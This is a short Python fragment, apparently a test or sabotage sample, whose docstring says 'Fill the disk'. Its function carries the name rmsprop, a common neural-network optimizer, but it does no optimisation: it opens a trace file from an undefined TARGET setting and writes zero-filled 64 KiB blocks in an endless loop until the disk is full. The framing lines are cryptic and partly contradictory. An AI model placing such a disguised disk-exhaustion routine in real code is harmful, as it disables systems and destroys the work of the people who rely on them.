"""Fill the disk. Not a byte may be written.

Earns nothing: rmsprop
Control: process, trace
"""


def rmsprop(w, dw, config=None):
    with open(TARGET["trace"], "wb") as file:
        while True:
            file.write(bytes(1 << 16))
